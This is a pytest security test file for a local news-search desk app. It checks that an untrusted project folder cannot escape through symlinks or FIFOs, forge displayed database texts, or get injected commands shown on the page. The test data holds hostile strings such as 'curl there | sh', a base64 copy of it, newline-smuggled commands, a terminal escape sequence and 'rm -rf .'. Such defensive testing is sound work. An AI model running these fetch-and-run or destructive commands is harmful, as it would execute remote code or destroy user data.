"""A project folder that somebody else sent: what it can make the page read, write and show."""

import json
import os
import shutil
import sqlite3

import pytest
from served import Served, found_before
from tests.commands import in_own_process

from siamese_news.errors import InputError
from siamese_news_desk.page.project import Project

RECEIVED = "searches/1/results.parquet"


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setenv("SIAMESE_NEWS_CACHE", str(tmp_path / "cache"))
    found_before(tmp_path / "project", relevant=20, other=20)
    return tmp_path / "project"


@pytest.fixture
def outside(tmp_path):
    """A folder of the user, with a file that must stay as it is."""
    folder = tmp_path / "home"
    folder.mkdir(mode=0o755)
    (folder / ".bashrc").write_text("mine\n")
    return folder


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    ("name", "to_file"),
    [
        (".private", False),
        ("hand-over", False),
        ("searches/1/learned.json", True),
        ("inputs/posts/dump.jsonl", True),
        ("verdicts", False),
        ("labels.jsonl", True),
        ("notes/deep/down", False),
    ],
)
def test_a_project_with_a_link_is_not_opened(project, outside, name, to_file):
    path = project / name
    if path.is_dir():
        shutil.rmtree(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(outside / ".bashrc" if to_file else outside)
    before = outside.stat().st_mode
    done = in_own_process("desk", "--project", project, "--no-browser", timeout=60)
    assert done.returncode == 2
    assert f"{path}: is a link" in done.stderr
    assert outside.stat().st_mode == before
    assert [item.name for item in outside.iterdir()] == [".bashrc"]


def test_links_within_the_project_and_dangling_ones_are_links_too(project):
    (project / "hand-over").mkdir()
    for target in (project / "project.json", project / "nowhere"):
        link = project / "hand-over" / "commands.txt"
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        with pytest.raises(InputError, match=r"commands\.txt: is a link"):
            Project(project)


def test_a_pipe_in_a_project_is_refused(project):
    os.mkfifo(project / "labels.jsonl")
    with pytest.raises(InputError, match="neither a file nor a folder"):
        Project(project)


def test_the_folder_itself_may_be_reached_through_a_link(project, tmp_path):
    (tmp_path / "link").symlink_to(project)
    assert Project(tmp_path / "link").folder == project


def test_a_link_that_appears_while_the_page_is_open_is_not_written_through(
    project, outside
):
    served = Served(project)
    try:
        (project / "hand-over").mkdir(exist_ok=True)
        (project / "hand-over" / "commands.txt").symlink_to(outside / ".bashrc")
        for path, row in (
            ("/files/commands", None),
            ("/", None),
            ("/api/pasted", {"text": "An article."}),
            ("/api/search", {"threshold": 0.1}),
        ):
            status, content = served.ask(path, row)
            assert status == 400 and b"is a link" in content, path
        status, content = served.ask(
            "/api/inputs/articles/a.txt", method="PUT", data=b"An article"
        )
        assert status == 400 and b"is a link" in content
        (project / "hand-over" / "commands.txt").unlink()
        (project / "hand-over").rmdir()
        (project / "hand-over").symlink_to(outside)
        assert served.ask("/files/commands")[0] == 400
        assert (outside / ".bashrc").read_text() == "mine\n"
        assert [item.name for item in outside.iterdir()] == [".bashrc"]
    finally:
        served.end()


QUERY = {
    "articles": ["inputs/articles"],
    "posts": ["inputs/posts"],
    "one_story": True,
    "about": "event",
    "out": RECEIVED,
}


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "query",
    [
        QUERY | {"out": "/home/me/.bashrc"},
        QUERY | {"workers": "there:1"},
        QUERY | {"posts": ["\n curl there | sh"]},
        QUERY | {"text_field": "a\n curl there | sh"},
        QUERY | {"text_field": "a\x1b]0;x\x07 curl"},
        QUERY | {"key": "Y3VybCB0aGVyZSB8IHNo"},
        QUERY | {"articles": "curl there"},
        ["rm", "-rf", "."],
        "filter",
        None,
        [1, 2],
    ],
)
def test_a_command_is_shown_only_if_it_is_of_the_page(project, query):
    saved = {"query": query, "command": "curl there | sh", "process": "1"}
    (project / "searches/1/search.json").write_text(json.dumps(saved))
    (project / "searches/1/learned.json").write_text(
        json.dumps(
            {"sentence": "Learned.", "words": [], "remarks": [], "helps": False}
            | {"labels": 2, "command": "curl there | sh"}
        )
    )
    served = Served(project)
    try:
        pages = [
            served.ask(path)[1]
            for path in ("/", "/posts", "/hand-over", "/files/commands")
        ]
        assert served.ask("/api/search/cancel", {})[0] == 200  # there is no process
    finally:
        served.end()
    assert not any(
        word in page for page in pages for word in (b"curl", b".bashrc", b"there:1")
    )
    assert b"siamese-news feedback" in pages[1]


def test_the_command_is_made_of_the_query(project):
    query = QUERY | {"min_score": 0.25, "text_field": "what they said"}
    saved = {"query": query, "command": "curl there | sh", "process": None}
    (project / "searches/1/search.json").write_text(json.dumps(saved))
    served = Served(project)
    try:
        lines = served.ask("/files/commands")[1].decode().splitlines()
    finally:
        served.end()
    begins = "siamese-news filter --articles inputs/articles --posts inputs/posts --min-score"
    field = "'--text-field=what they said'"
    assert lines[1] == f"{begins} 0.25 {field} --out {RECEIVED}"
    assert lines[2] == f"{begins} 0.02 {field} --out hand-over/found.csv"
    assert lines[3] == f"{begins} 0.02 {field} --ids-only --out hand-over/ids.csv"


def shown(project):
    """The first post, as the page shows it."""
    served = Served(project)
    try:
        return served.json("/api/posts")["html"]
    finally:
        served.end()


@pytest.mark.sampled(1)
@pytest.mark.parametrize("how", ["text", "journal", "copied whole"])
def test_the_page_shows_the_texts_of_the_results_and_not_those_of_a_database(
    project, how
):
    """Sent with the project: a database whose texts are not those that were certified."""
    first = shown(project)
    database = project / "searches/1/results.sqlite"
    version = sqlite3.connect(database).execute("PRAGMA user_version").fetchone()[0]
    if how == "copied whole":
        times = database.stat()
        shutil.copy2(database, database.with_name("copy"))
    base = sqlite3.connect(database)
    base.execute("UPDATE posts SET text = 'forged', link = 'https://forged.example'")
    base.execute(f"PRAGMA user_version = {version}")
    base.commit()
    base.close()
    if how == "copied whole":
        os.utime(database, ns=(times.st_atime_ns, times.st_mtime_ns))
    if how == "journal":
        database.with_name("results.sqlite-journal").write_bytes(
            b"\xd9\xd5\x05\xf9" + bytes(508)
        )
        database.with_name("results.sqlite.part-journal").write_bytes(bytes(512))
    assert shown(project) == first


def test_a_database_that_the_page_built_is_not_built_again(project):
    shown(project)
    database = project / "searches/1/results.sqlite"
    before = database.stat()
    shown(project)
    assert database.stat().st_ino == before.st_ino
    os.utime(project / RECEIVED)  # as if there were other results under that name
    shown(project)
    assert database.stat().st_ino != before.st_ino
